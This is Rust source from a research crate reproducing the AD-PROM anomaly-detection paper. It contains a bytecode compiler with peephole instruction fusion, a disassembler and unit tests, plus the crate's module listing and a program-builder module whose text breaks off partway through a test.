    /// Interned strings: observation names (pre-resolved labels) and
    /// unknown-callee names.
    pub names: Vec<String>,
    /// One chunk per function, in program order.
    pub chunks: Vec<Chunk>,
    /// Chunk index of `main`, if the program has one. Running a program
    /// without an entry reports the same `NoMain` error as the tree-walk.
    pub entry: Option<usize>,
}

impl BytecodeProgram {
    /// Total instruction count across all chunks.
    pub fn instruction_count(&self) -> usize {
        self.chunks.iter().map(|c| c.code.len()).sum()
    }
}

/// Compilation failures. All are structural-limit errors: compilation of
/// well-formed workload programs is total.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CompileError {
    /// Statement/expression nesting exceeds [`MAX_NEST_DEPTH`].
    TooDeep {
        /// The function whose body nests too deeply.
        function: String,
    },
    /// More than `u16::MAX` pooled constants.
    TooManyConsts,
    /// More than `u16::MAX` interned names.
    TooManyNames,
    /// More than `u16::MAX` locals in one function.
    TooManyLocals {
        /// The offending function.
        function: String,
    },
    /// More than `u16::MAX` functions.
    TooManyFunctions,
    /// A call site passes more than 255 arguments.
    TooManyArgs {
        /// The function containing the call.
        function: String,
        /// The argument count found.
        argc: usize,
    },
}

impl fmt::Display for CompileError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CompileError::TooDeep { function } => write!(
                f,
                "nesting in `{function}` exceeds the compiler depth bound ({MAX_NEST_DEPTH})"
            ),
            CompileError::TooManyConsts => write!(f, "constant pool exceeds u16 indexing"),
            CompileError::TooManyNames => write!(f, "name table exceeds u16 indexing"),
            CompileError::TooManyLocals { function } => {
                write!(f, "`{function}` uses more than u16::MAX locals")
            }
            CompileError::TooManyFunctions => write!(f, "more than u16::MAX functions"),
            CompileError::TooManyArgs { function, argc } => {
                write!(
                    f,
                    "a call in `{function}` passes {argc} arguments (max 255)"
                )
            }
        }
    }
}

impl std::error::Error for CompileError {}

/// Compiles a program to bytecode. `site_labels` is the Analyzer's
/// observation-name map; pass an empty map to trace raw call names, exactly
/// as with the interpreter.
pub fn compile_program(
    prog: &Program,
    site_labels: &HashMap<CallSiteId, String>,
) -> Result<BytecodeProgram, CompileError> {
    if prog.functions.len() > usize::from(u16::MAX) {
        return Err(CompileError::TooManyFunctions);
    }
    let mut shared = Shared {
        labels: site_labels,
        func_index: HashMap::new(),
        consts: Vec::new(),
        const_index: HashMap::new(),
        names: Vec::new(),
        name_index: HashMap::new(),
    };
    // First function with a given name wins, mirroring `Program::function`.
    for (i, f) in prog.functions.iter().enumerate() {
        shared.func_index.entry(f.name.as_str()).or_insert(i);
    }
    let mut chunks = Vec::with_capacity(prog.functions.len());
    for func in &prog.functions {
        chunks.push(compile_function(func, &mut shared)?);
    }
    let entry = shared.func_index.get(Program::ENTRY).copied();
    Ok(BytecodeProgram {
        consts: shared.consts,
        names: shared.names,
        chunks,
        entry,
    })
}

/// Constant-pool key: floats dedup by bit pattern.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
enum ConstKey {
    Int(i64),
    Float(u64),
    Str(String),
    Bool(bool),
    Null,
}

struct Shared<'a> {
    labels: &'a HashMap<CallSiteId, String>,
    func_index: HashMap<&'a str, usize>,
    consts: Vec<Const>,
    const_index: HashMap<ConstKey, u16>,
    names: Vec<String>,
    name_index: HashMap<String, u16>,
}

impl Shared<'_> {
    fn intern_const(&mut self, c: Const) -> Result<u16, CompileError> {
        let key = match &c {
            Const::Int(v) => ConstKey::Int(*v),
            Const::Float(v) => ConstKey::Float(v.to_bits()),
            Const::Str(s) => ConstKey::Str(s.clone()),
            Const::Bool(b) => ConstKey::Bool(*b),
            Const::Null => ConstKey::Null,
        };
        if let Some(&idx) = self.const_index.get(&key) {
            return Ok(idx);
        }
        let idx = u16::try_from(self.consts.len()).map_err(|_| CompileError::TooManyConsts)?;
        self.consts.push(c);
        self.const_index.insert(key, idx);
        Ok(idx)
    }

    fn intern_name(&mut self, name: &str) -> Result<u16, CompileError> {
        if let Some(&idx) = self.name_index.get(name) {
            return Ok(idx);
        }
        let idx = u16::try_from(self.names.len()).map_err(|_| CompileError::TooManyNames)?;
        self.names.push(name.to_string());
        self.name_index.insert(name.to_string(), idx);
        Ok(idx)
    }
}

struct FuncCompiler<'a, 'b> {
    shared: &'a mut Shared<'b>,
    func_name: &'a str,
    slots: HashMap<String, u16>,
    code: Vec<Op>,
    /// Innermost-last stack of loop patch lists.
    loops: Vec<LoopCtx>,
}

#[derive(Default)]
struct LoopCtx {
    /// `Jump` indices to patch to the loop's exit.
    breaks: Vec<usize>,
    /// `Jump` indices to patch to the loop's continue point (condition for
    /// `while`, step for `for`).
    continues: Vec<usize>,
}

fn compile_function(func: &Function, shared: &mut Shared<'_>) -> Result<Chunk, CompileError> {
    let mut c = FuncCompiler {
        shared,
        func_name: &func.name,
        slots: HashMap::new(),
        code: Vec::new(),
        loops: Vec::new(),
    };
    // Parameters occupy the first slots, in declaration order; the VM binds
    // call arguments positionally against them.
    for p in &func.params {
        c.slot(p)?;
    }
    let params = u16::try_from(func.params.len()).map_err(|_| CompileError::TooManyLocals {
        function: func.name.clone(),
    })?;
    for stmt in &func.body {
        c.stmt(stmt, 0)?;
    }
    // Falling off the end returns null, like the tree-walk's Flow::Normal.
    let null = c.shared.intern_const(Const::Null)?;
    c.code.push(Op::Const(null));
    c.code.push(Op::Ret);
    let locals = u16::try_from(c.slots.len()).map_err(|_| CompileError::TooManyLocals {
        function: func.name.clone(),
    })?;
    Ok(Chunk {
        name: func.name.clone(),
        params,
        locals,
        code: fuse(c.code),
    })
}

/// Peephole pass: fuses adjacent instruction runs into the superinstruction
/// forms ([`Op::LoadConstBin`] and friends). A run is only fused when none
/// of its interior instructions is a jump target (a targeted instruction
/// must stay individually addressable); jump operands are remapped to the
/// compacted indices afterwards.
fn fuse(code: Vec<Op>) -> Vec<Op> {
    let mut is_target = vec![false; code.len() + 1];
    for op in &code {
        if let Op::Jump(t) | Op::JumpIfFalse(t) | Op::JumpIfTrue(t) = op {
            is_target[*t as usize] = true;
        }
    }
    let mut out = Vec::with_capacity(code.len());
    // Old instruction index → new index. Interior indices of a fused run
    // map to the run's new index; they are never jump targets, so the entry
    // is only there to keep the remap total.
    let mut map = vec![0u32; code.len() + 1];
    let mut i = 0;
    while i < code.len() {
        let clear = |k: usize| !is_target[k];
        let (rep, len) = match &code[i..] {
            &[Op::Load(slot), Op::Const(cst), Op::Binary(op), Op::Store(dst), ..]
                if clear(i + 1) && clear(i + 2) && clear(i + 3) =>
            {
                (Op::LoadConstBinStore { slot, cst, op, dst }, 4)
            }
            &[Op::Load(slot), Op::Const(cst), Op::Binary(op), Op::JumpIfFalse(target), ..]
                if clear(i + 1) && clear(i + 2) && clear(i + 3) =>
            {
                (
                    Op::LoadConstBinJf {
                        slot,
                        cst,
                        op,
                        target,
                    },
                    4,
                )
            }
            &[Op::Load(a), Op::Load(b), Op::Binary(op), Op::JumpIfFalse(target), ..]
                if clear(i + 1) && clear(i + 2) && clear(i + 3) =>
            {
                (Op::LoadLoadBinJf { a, b, op, target }, 4)
            }
            &[Op::Load(slot), Op::Const(cst), Op::Binary(op), ..]
                if clear(i + 1) && clear(i + 2) =>
            {
                (Op::LoadConstBin { slot, cst, op }, 3)
            }
            &[Op::Load(a), Op::Load(b), Op::Binary(op), ..] if clear(i + 1) && clear(i + 2) => {
                (Op::LoadLoadBin { a, b, op }, 3)
            }
            &[Op::Const(cst), Op::Store(slot), ..] if clear(i + 1) => {
                (Op::ConstStore { cst, slot }, 2)
            }
            &[op, ..] => (op, 1),
            [] => unreachable!("loop bound"),
        };
        let at = u32::try_from(out.len()).expect("chunk under u32 instructions");
        for m in map.iter_mut().skip(i).take(len) {
            *m = at;
        }
        out.push(rep);
        i += len;
    }
    map[code.len()] = u32::try_from(out.len()).expect("chunk under u32 instructions");
    for op in &mut out {
        if let Op::Jump(t)
        | Op::JumpIfFalse(t)
        | Op::JumpIfTrue(t)
        | Op::LoadConstBinJf { target: t, .. }
        | Op::LoadLoadBinJf { target: t, .. } = op
        {
            *t = map[*t as usize];
        }
    }
    out
}

impl FuncCompiler<'_, '_> {
    /// Resolves (allocating on demand) the slot for a variable. On-demand
    /// allocation matches the interpreter's flat per-function frame: a
    /// variable read before any write yields null from its fresh slot.
    fn slot(&mut self, name: &str) -> Result<u16, CompileError> {
        if let Some(&s) = self.slots.get(name) {
            return Ok(s);
        }
        let s = u16::try_from(self.slots.len()).map_err(|_| CompileError::TooManyLocals {
            function: self.func_name.to_string(),
        })?;
        self.slots.insert(name.to_string(), s);
        Ok(s)
    }

    fn deeper(&self, depth: usize) -> Result<usize, CompileError> {
        if depth >= MAX_NEST_DEPTH {
            return Err(CompileError::TooDeep {
                function: self.func_name.to_string(),
            });
        }
        Ok(depth + 1)
    }

    /// Emits a jump placeholder, returning its index for patching.
    fn emit_jump(&mut self, op: fn(u32) -> Op) -> usize {
        self.code.push(op(u32::MAX));
        self.code.len() - 1
    }

    fn patch_jump(&mut self, at: usize) {
        self.patch_jump_to(at, self.code.len());
    }

    fn patch_jump_to(&mut self, at: usize, target: usize) {
        let target = u32::try_from(target).expect("chunk under u32 instructions");
        match &mut self.code[at] {
            Op::Jump(t) | Op::JumpIfFalse(t) | Op::JumpIfTrue(t) => *t = target,
            other => unreachable!("patching non-jump {other:?}"),
        }
    }

    fn stmt(&mut self, stmt: &Stmt, depth: usize) -> Result<(), CompileError> {
        let depth = self.deeper(depth)?;
        match stmt {
            Stmt::Let(name, e) | Stmt::Assign(name, e) => {
                self.expr(e, depth)?;
                let s = self.slot(name)?;
                self.code.push(Op::Store(s));
            }
            Stmt::Expr(e) => {
                self.expr(e, depth)?;
                self.code.push(Op::Pop);
            }
            Stmt::If {
                cond,
                then_branch,
                else_branch,
            } => {
                self.expr(cond, depth)?;
                let to_else = self.emit_jump(Op::JumpIfFalse);
                for s in then_branch {
                    self.stmt(s, depth)?;
                }
                if else_branch.is_empty() {
                    self.patch_jump(to_else);
                } else {
                    let to_end = self.emit_jump(Op::Jump);
                    self.patch_jump(to_else);
                    for s in else_branch {
                        self.stmt(s, depth)?;
                    }
                    self.patch_jump(to_end);
                }
            }
            Stmt::While { cond, body } => {
                let top = self.code.len();
                self.expr(cond, depth)?;
                let exit = self.emit_jump(Op::JumpIfFalse);
                self.loops.push(LoopCtx::default());
                for s in body {
                    self.stmt(s, depth)?;
                }
                let ctx = self.loops.pop().expect("loop ctx");
                self.code
                    .push(Op::Jump(u32::try_from(top).expect("chunk size")));
                self.patch_jump(exit);
                for b in ctx.breaks {
                    self.patch_jump(b);
                }
                for c in ctx.continues {
                    self.patch_jump_to(c, top);
                }
            }
            Stmt::For {
                init,
                cond,
                step,
                body,
            } => {
                // `break`/`continue` in init or step propagate to the
                // *enclosing* loop in the tree-walk (the for's own flow
                // handling only wraps the body), so the loop context is
                // pushed around the body alone.
                self.stmt(init, depth)?;
                let top = self.code.len();
                self.expr(cond, depth)?;
                let exit = self.emit_jump(Op::JumpIfFalse);
                self.loops.push(LoopCtx::default());
                for s in body {
                    self.stmt(s, depth)?;
                }
                let ctx = self.loops.pop().expect("loop ctx");
                let step_at = self.code.len();
                self.stmt(step, depth)?;
                self.code
                    .push(Op::Jump(u32::try_from(top).expect("chunk size")));
                self.patch_jump(exit);
                for b in ctx.breaks {
                    self.patch_jump(b);
                }
                for c in ctx.continues {
                    self.patch_jump_to(c, step_at);
                }
            }
            Stmt::Return(e) => {
                match e {
                    Some(e) => self.expr(e, depth)?,
                    None => {
                        let null = self.shared.intern_const(Const::Null)?;
                        self.code.push(Op::Const(null));
                    }
                }
                self.code.push(Op::Ret);
            }
            Stmt::Break => {
                if self.loops.is_empty() {
                    // A stray break leaves the function: the tree-walk
                    // propagates the flow out of the body, which callers
                    // treat as "returned null".
                    self.ret_null()?;
                } else {
                    let j = self.emit_jump(Op::Jump);
                    self.loops.last_mut().expect("loop ctx").breaks.push(j);
                }
            }
            Stmt::Continue => {
                if self.loops.is_empty() {
                    self.ret_null()?;
                } else {
                    let j = self.emit_jump(Op::Jump);
                    self.loops.last_mut().expect("loop ctx").continues.push(j);
                }
            }
        }
        Ok(())
    }

    fn ret_null(&mut self) -> Result<(), CompileError> {
        let null = self.shared.intern_const(Const::Null)?;
        self.code.push(Op::Const(null));
        self.code.push(Op::Ret);
        Ok(())
    }

    fn expr(&mut self, e: &Expr, depth: usize) -> Result<(), CompileError> {
        let depth = self.deeper(depth)?;
        match e {
            Expr::Int(v) => {
                let c = self.shared.intern_const(Const::Int(*v))?;
                self.code.push(Op::Const(c));
            }
            Expr::Float(v) => {
                let c = self.shared.intern_const(Const::Float(*v))?;
                self.code.push(Op::Const(c));
            }
            Expr::Str(s) => {
                let c = self.shared.intern_const(Const::Str(s.clone()))?;
                self.code.push(Op::Const(c));
            }
            Expr::Bool(b) => {
                let c = self.shared.intern_const(Const::Bool(*b))?;
                self.code.push(Op::Const(c));
            }
            Expr::Null => {
                let c = self.shared.intern_const(Const::Null)?;
                self.code.push(Op::Const(c));
            }
            Expr::Var(name) => {
                let s = self.slot(name)?;
                self.code.push(Op::Load(s));
            }
            Expr::Unary(op, a) => {
                self.expr(a, depth)?;
                self.code.push(Op::Unary(*op));
            }
            Expr::Binary(BinOp::And, a, b) => {
                // a && b  ⇒  falsy(a) ? false : Bool(truthy(b)) — the
                // tree-walk always produces a Bool here.
                self.expr(a, depth)?;
                let short = self.emit_jump(Op::JumpIfFalse);
                self.expr(b, depth)?;
                self.code.push(Op::Truthy);
                let done = self.emit_jump(Op::Jump);
                self.patch_jump(short);
                let f = self.shared.intern_const(Const::Bool(false))?;
                self.code.push(Op::Const(f));
                self.patch_jump(done);
            }
            Expr::Binary(BinOp::Or, a, b) => {
                self.expr(a, depth)?;
                let short = self.emit_jump(Op::JumpIfTrue);
                self.expr(b, depth)?;
                self.code.push(Op::Truthy);
                let done = self.emit_jump(Op::Jump);
                self.patch_jump(short);
                let t = self.shared.intern_const(Const::Bool(true))?;
                self.code.push(Op::Const(t));
                self.patch_jump(done);
            }
            Expr::Binary(op, a, b) => {
                self.expr(a, depth)?;
                self.expr(b, depth)?;
                self.code.push(Op::Binary(*op));
            }
            Expr::Index(a, idx) => {
                self.expr(a, depth)?;
                self.expr(idx, depth)?;
                self.code.push(Op::Index);
            }
            Expr::Call {
                site, callee, args, ..
            } => {
                for a in args {
                    self.expr(a, depth)?;
                }
                let argc = u8::try_from(args.len()).map_err(|_| CompileError::TooManyArgs {
                    function: self.func_name.to_string(),
                    argc: args.len(),
                })?;
                match callee {
                    Callee::User(name) => match self.shared.func_index.get(name.as_str()) {
                        Some(&idx) => {
                            let func = u16::try_from(idx).expect("function count checked");
                            self.code.push(Op::Call { func, argc });
                        }
                        None => {
                            let name = self.shared.intern_name(name)?;
                            self.code.push(Op::CallUnknown { name });
                        }
                    },
                    Callee::Library(lc) => {
                        // Observation name resolved now, once: the site's
                        // Analyzer label, or the raw call name.
                        let obs = match self.shared.labels.get(site) {
                            Some(label) => label.clone(),
                            None => lc.name().to_string(),
                        };
                        let name = self.shared.intern_name(&obs)?;
                        self.code.push(Op::CallLib {
                            lc: *lc,
                            site: *site,
                            name,
                            argc,
                        });
                        // Out-parameter write: only when the target
                        // argument is a plain variable (same rule the
                        // tree-walk applies through the Expr).
                        if let Some(which) = lc.out_param() {
                            let target = match which {
                                crate::libcalls::OutParam::FirstArg => args.first(),
                                crate::libcalls::OutParam::LastArg => args.last(),
                            };
                            if let Some(Expr::Var(var)) = target {
                                let s = self.slot(var)?;
                                self.code.push(Op::StoreKeep(s));
                            }
                        }
                    }
                }
            }
        }
        Ok(())
    }
}

/// Renders a compiled program as assembly-style text, one chunk per
/// function — the debugging companion to [`crate::pretty::pretty_program`].
pub fn disassemble(prog: &BytecodeProgram) -> String {
    let mut out = String::new();
    let _ = writeln!(
        out,
        "; {} chunks, {} consts, {} names, entry {}",
        prog.chunks.len(),
        prog.consts.len(),
        prog.names.len(),
        match prog.entry {
            Some(i) => prog.chunks[i].name.clone(),
            None => "<none>".to_string(),
        }
    );
    for (i, c) in prog.consts.iter().enumerate() {
        let _ = writeln!(out, "const c{i} = {c}");
    }
    for (i, n) in prog.names.iter().enumerate() {
        let _ = writeln!(out, "name  n{i} = {n:?}");
    }
    for chunk in &prog.chunks {
        let _ = writeln!(
            out,
            "\nfn {} (params={}, locals={}) {{",
            chunk.name, chunk.params, chunk.locals
        );
        for (pc, op) in chunk.code.iter().enumerate() {
            let _ = write!(out, "  {pc:04}  ");
            let _ = match op {
                Op::Const(c) => writeln!(out, "const   c{c}        ; {}", prog.consts[*c as usize]),
                Op::Load(s) => writeln!(out, "load    {s}"),
                Op::Store(s) => writeln!(out, "store   {s}"),
                Op::StoreKeep(s) => writeln!(out, "store+  {s}        ; out-param, keeps value"),
                Op::Pop => writeln!(out, "pop"),
                Op::Unary(o) => writeln!(out, "unary   {o:?}"),
                Op::Binary(o) => writeln!(out, "binary  {}", o.symbol()),
                Op::Truthy => writeln!(out, "truthy"),
                Op::Index => writeln!(out, "index"),
                Op::Jump(t) => writeln!(out, "jmp     -> {t:04}"),
                Op::JumpIfFalse(t) => writeln!(out, "jmp.f   -> {t:04}"),
                Op::JumpIfTrue(t) => writeln!(out, "jmp.t   -> {t:04}"),
                Op::Call { func, argc } => writeln!(
                    out,
                    "call    {} argc={argc}",
                    prog.chunks[*func as usize].name
                ),
                Op::CallUnknown { name } => writeln!(
                    out,
                    "call?   {:?}      ; undefined, faults if reached",
                    prog.names[*name as usize]
                ),
                Op::CallLib { lc, site, name, .. } => writeln!(
                    out,
                    "libcall {} @{site} as {:?}",
                    lc.name(),
                    prog.names[*name as usize]
                ),
                Op::Ret => writeln!(out, "ret"),
                Op::LoadConstBin { slot, cst, op } => {
                    writeln!(out, "lcbin   {slot} c{cst} {}", op.symbol())
                }
                Op::LoadLoadBin { a, b, op } => writeln!(out, "llbin   {a} {b} {}", op.symbol()),
                Op::LoadConstBinStore { slot, cst, op, dst } => {
                    writeln!(out, "lcbin+  {slot} c{cst} {} -> {dst}", op.symbol())
                }
                Op::ConstStore { cst, slot } => writeln!(out, "cstore  c{cst} -> {slot}"),
                Op::LoadConstBinJf {
                    slot,
                    cst,
                    op,
                    target,
                } => {
                    writeln!(out, "lcbin.f {slot} c{cst} {} -> {target:04}", op.symbol())
                }
                Op::LoadLoadBinJf { a, b, op, target } => {
                    writeln!(out, "llbin.f {a} {b} {} -> {target:04}", op.symbol())
                }
            };
        }
        out.push_str("}\n");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::parse_program;

    fn compile(src: &str) -> BytecodeProgram {
        compile_program(&parse_program(src).unwrap(), &HashMap::new()).unwrap()
    }

    #[test]
    fn constant_pool_deduplicates() {
        let bc = compile(
            r#"
            fn main() {
                let a = "SELECT * FROM items";
                let b = "SELECT * FROM items";
                let c = 7;
                let d = 7;
                let e = 7.5;
                let f = 7.5;
                printf("%s", a);
                printf("%s", b);
            }
            "#,
        );
        let strs = bc
            .consts
            .iter()
            .filter(|c| matches!(c, Const::Str(s) if s == "SELECT * FROM items"))
            .count();
        assert_eq!(strs, 1, "identical string literals must share one entry");
        let ints = bc
            .consts
            .iter()
            .filter(|c| matches!(c, Const::Int(7)))
            .count();
        assert_eq!(ints, 1);
        let floats = bc
            .consts
            .iter()
            .filter(|c| matches!(c, Const::Float(v) if *v == 7.5))
            .count();
        assert_eq!(floats, 1);
        let fmts = bc
            .consts
            .iter()
            .filter(|c| matches!(c, Const::Str(s) if s == "%s"))
            .count();
        assert_eq!(fmts, 1, "the shared format string appears once");
    }

    #[test]
    fn deeply_nested_expression_fails_cleanly() {
        // (((((…1…))))) beyond the bound must report TooDeep, not overflow.
        let mut e = Expr::Int(1);
        for _ in 0..(MAX_NEST_DEPTH + 8) {
            e = Expr::Unary(UnOp::Neg, Box::new(e));
        }
        let prog = Program::new(vec![Function::new("main", vec![], vec![Stmt::Expr(e)])], 0);
        let err = compile_program(&prog, &HashMap::new()).unwrap_err();
        assert_eq!(
            err,
            CompileError::TooDeep {
                function: "main".to_string()
            }
        );
        assert!(err.to_string().contains("depth bound"));
    }

    #[test]
    fn deeply_nested_statements_fail_cleanly() {
        let mut body = vec![Stmt::Expr(Expr::Int(1))];
        for _ in 0..(MAX_NEST_DEPTH + 8) {
            body = vec![Stmt::If {
                cond: Expr::Bool(true),
                then_branch: body,
                else_branch: vec![],
            }];
        }
        let prog = Program::new(vec![Function::new("main", vec![], body)], 0);
        assert!(matches!(
            compile_program(&prog, &HashMap::new()),
            Err(CompileError::TooDeep { .. })
        ));
    }

    #[test]
    fn empty_program_compiles_without_entry() {
        let bc = compile_program(&Program::new(vec![], 0), &HashMap::new()).unwrap();
        assert!(bc.chunks.is_empty());
        assert_eq!(bc.entry, None);
    }

    #[test]
    fn unknown_callee_compiles_to_faulting_op() {
        // The tree-walk faults only when the call executes; the compiled
        // form must do the same, so unknown callees are an op, not an error.
        let bc = compile("fn main() { if (0) { frobnicate(1, 2); } }");
        let main = &bc.chunks[bc.entry.unwrap()];
        assert!(main.code.iter().any(
            |op| matches!(op, Op::CallUnknown { name } if bc.names[*name as usize] == "frobnicate")
        ));
    }

    #[test]
    fn labels_resolve_at_compile_time() {
        let prog = parse_program("fn main() { printf(\"x\"); puts(\"y\"); }").unwrap();
        let mut labels = HashMap::new();
        prog.for_each_call(|site, callee, _| {
            if callee.name() == "printf" {
                labels.insert(site, "printf_Q9".to_string());
            }
        });
        let bc = compile_program(&prog, &labels).unwrap();
        assert!(bc.names.iter().any(|n| n == "printf_Q9"));
        assert!(bc.names.iter().any(|n| n == "puts"));
        assert!(
            !bc.names.iter().any(|n| n == "printf"),
            "the labeled site must not intern its raw name"
        );
    }

    #[test]
    fn out_params_compile_to_store_keep() {
        let bc = compile("fn main() { let q = \"\"; strcpy(q, \"x\"); let v = scanf(); }");
        let main = &bc.chunks[bc.entry.unwrap()];
        let keeps = main
            .code
            .iter()
            .filter(|op| matches!(op, Op::StoreKeep(_)))
            .count();
        // strcpy writes its first arg; bare scanf() has no target.
        assert_eq!(keeps, 1);
    }

    #[test]
    fn every_chunk_ends_in_ret() {
        let bc = compile("fn main() { if (1) { return 2; } }\nfn f(a) { while (a) { break; } }");
        for chunk in &bc.chunks {
            assert_eq!(chunk.code.last(), Some(&Op::Ret), "{}", chunk.name);
        }
    }

    #[test]
    fn peephole_fuses_loop_step_and_remaps_jumps() {
        let bc =
            compile("fn main() { let n = 5; for (let r = 0; r < n; r = r + 1) { puts(\"x\"); } }");
        let main = &bc.chunks[bc.entry.unwrap()];
        // `let n = 5` / `let r = 0` fuse to ConstStore; the `r < n` header
        // (compare + exit branch) to LoadLoadBinJf; the step `r = r + 1` to
        // a single stack-free op.
        assert!(main
            .code
            .iter()
            .any(|op| matches!(op, Op::ConstStore { .. })));
        assert!(main
            .code
            .iter()
            .any(|op| matches!(op, Op::LoadLoadBinJf { op: BinOp::Lt, .. })));
        assert!(main
            .code
            .iter()
            .any(|op| matches!(op, Op::LoadConstBinStore { op: BinOp::Add, .. })));
        // Every jump must land inside the chunk on a real instruction.
        for op in &main.code {
            if let Op::Jump(t)
            | Op::JumpIfFalse(t)
            | Op::JumpIfTrue(t)
            | Op::LoadConstBinJf { target: t, .. }
            | Op::LoadLoadBinJf { target: t, .. } = op
            {
                assert!((*t as usize) < main.code.len(), "dangling jump {op:?}");
            }
        }
    }

    #[test]
    fn fusion_never_crosses_a_jump_target() {
        // The `continue` jumps to the for-loop's step statement: the step's
        // first instruction is a jump target, so the 4-op step run must not
        // be swallowed into an earlier fusion window.
        let bc = compile(
            "fn main() { for (let r = 0; r < 9; r = r + 1) { if (r) { continue; } puts(\"x\"); } }",
        );
        let main = &bc.chunks[bc.entry.unwrap()];
        for op in &main.code {
            if let Op::Jump(t)
            | Op::JumpIfFalse(t)
            | Op::JumpIfTrue(t)
            | Op::LoadConstBinJf { target: t, .. }
            | Op::LoadLoadBinJf { target: t, .. } = op
            {
                assert!((*t as usize) < main.code.len(), "dangling jump {op:?}");
            }
        }
        // The continue target (the step) survives as a fused-or-plain run
        // whose first op is addressable; executing the program must still
        // terminate, which the trace crate's differential tests verify.
        assert_eq!(main.code.last(), Some(&Op::Ret));
    }

    #[test]
    fn disassembly_is_readable() {
        let bc = compile("fn main() { let x = 1 + 2; printf(\"%d\", x); }");
        let asm = disassemble(&bc);
        assert!(asm.contains("fn main"));
        assert!(asm.contains("libcall printf"));
        assert!(asm.contains("binary  +"));
        assert!(asm.contains("const c"));
    }
}
