//! # adprom-lang
//!
//! The application-program language used throughout the AD-PROM
//! reproduction. The ICDE 2020 paper analyzes and instruments C client
//! programs through Dyninst; this crate provides the equivalent substrate for
//! a pure-Rust build: a small C-like imperative language with the libc /
//! libpq / libmysqlclient call surface that AD-PROM intercepts.
//!
//! The crate provides:
//!
//! * the [`ast`] — programs, functions, statements, expressions and uniquely
//!   identified call sites;
//! * the [`libcalls`] surface with the source/sink/propagator classification
//!   used by the data-dependency analysis;
//! * a [`parser`] for a textual DSL (the workload applications are written in
//!   it), and a [`pretty`]-printer that round-trips;
//! * a programmatic [`builder`] used by the synthetic SIR-scale generator and
//!   by the attack mutators;
//! * a [`validate`](mod@validate) pass catching structural errors before analysis;
//! * a [`bytecode`] compiler + disassembler lowering programs to the compact
//!   stack-machine form executed by the trace VM.

#![warn(missing_docs)]

pub mod ast;
pub mod builder;
pub mod bytecode;
pub mod libcalls;
pub mod parser;
pub mod pretty;
pub mod validate;

pub use ast::{BinOp, CallSiteId, Callee, Expr, Function, Program, Stmt, UnOp};
pub use builder::ProgramBuilder;
pub use bytecode::{compile_program, disassemble, BytecodeProgram, Chunk, CompileError, Op};
pub use libcalls::{LibCall, OutParam};
pub use parser::{parse_program, ParseError};
pub use pretty::pretty_program;
pub use validate::{validate, validated, ValidateError};
