//! Programmatic builder for constructing programs without going through the
//! DSL parser. Used by the SIR-scale synthetic program generator and by the
//! attack mutators, which need to fabricate statements with fresh call sites.

use crate::ast::{BinOp, CallSiteId, Callee, Expr, Function, Program, Stmt};
use crate::libcalls::LibCall;

/// Builds a [`Program`], handing out sequential call-site ids.
#[derive(Debug, Default)]
pub struct ProgramBuilder {
    functions: Vec<Function>,
    next_site: u32,
}

impl ProgramBuilder {
    /// Creates an empty builder.
    pub fn new() -> ProgramBuilder {
        ProgramBuilder::default()
    }

    /// Allocates the next call-site id.
    pub fn site(&mut self) -> CallSiteId {
        let id = CallSiteId(self.next_site);
        self.next_site += 1;
        id
    }

    /// Builds a library-call expression with a fresh site id.
    pub fn lib(&mut self, call: LibCall, args: Vec<Expr>) -> Expr {
        Expr::Call {
            site: self.site(),
            callee: Callee::Library(call),
            args,
            line: 0,
        }
    }

    /// Builds a user-call expression with a fresh site id.
    pub fn user(&mut self, name: impl Into<String>, args: Vec<Expr>) -> Expr {
        Expr::Call {
            site: self.site(),
            callee: Callee::User(name.into()),
            args,
            line: 0,
        }
    }

    /// Adds a function to the program.
    pub fn function(
        &mut self,
        name: impl Into<String>,
        params: Vec<&str>,
        body: Vec<Stmt>,
    ) -> &mut Self {
        self.functions.push(Function::new(
            name,
            params.into_iter().map(str::to_string).collect(),
            body,
        ));
        self
    }

    /// Finalizes the program.
    pub fn build(self) -> Program {
        Program::new(self.functions, self.next_site)
    }
}

/// Shorthand expression constructors used across workloads and tests.
pub mod dsl {
    use super::*;

    /// Integer literal.
    pub fn int(v: i64) -> Expr {
        Expr::Int(v)
    }

    /// String literal.
    pub fn s(v: &str) -> Expr {
        Expr::Str(v.to_string())
    }

    /// Variable reference.
    pub fn var(name: &str) -> Expr {
        Expr::Var(name.to_string())
    }

    /// Binary operation.
    pub fn bin(op: BinOp, a: Expr, b: Expr) -> Expr {
        Expr::Binary(op, Box::new(a), Box::new(b))
    }

    /// `a < b`.
    pub fn lt(a: Expr, b: Expr) -> Expr {
        bin(BinOp::Lt, a, b)
    }

    /// `a == b`.
    pub fn eq(a: Expr, b: Expr) -> Expr {
        bin(BinOp::Eq, a, b)
    }

    /// `a + b`.
    pub fn add(a: Expr, b: Expr) -> Expr {
        bin(BinOp::Add, a, b)
    }

    /// `let name = value;`
    pub fn let_(name: &str, value: Expr) -> Stmt {
        Stmt::Let(name.to_string(), value)
    }

    /// `name = value;`
    pub fn assign(name: &str, value: Expr) -> Stmt {
        Stmt::Assign(name.to_string(), value)
    }

    /// Expression statement.
    pub fn expr(e: Expr) -> Stmt {
        Stmt::Expr(e)
    }

    /// `if (cond) { then } else { els }`.
    pub fn if_(cond: Expr, then: Vec<Stmt>, els: Vec<Stmt>) -> Stmt {
        Stmt::If {
            cond,
            then_branch: then,
            else_branch: els,
        }
    }

    /// `while (cond) { body }`.
    pub fn while_(cond: Expr, body: Vec<Stmt>) -> Stmt {
        Stmt::While { cond, body }
    }

    /// Canonical counting loop `for (let i = 0; i < n; i = i + 1) { body }`.
    pub fn count_loop(i: &str, n: Expr, body: Vec<Stmt>) -> Stmt {
        Stmt::For {
            init: Box::new(let_(i, int(0))),
            cond: lt(var(i), n),
            step: Box::new(assign(i, add(var(i), int(1)))),
            body,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::dsl::*;
    use super::*;
    use crate::pretty::pretty_program;

    #[test]
    fn builder_produces_parseable_program() {
        let mut b = ProgramBuilder::new();
        let print = b.lib(LibCall::Printf, vec![s("%d"), var("i")]);
        b.function(
            "main",
            vec![],
            vec![count_loop("i", int(3), vec![expr(print)])],
        );
        let prog = b.build();
        assert_eq!(prog.call_site_count(), 1);
        let text = pretty_program(&prog);
        let reparsed = crate::parser::parse_program(&text).unwrap();
        assert_eq!(reparsed.call_site_count(), 1);
    }

    #[test]
    fn site_ids_are_sequential_and_recorded() {
        let mut b = ProgramBuilder::new();
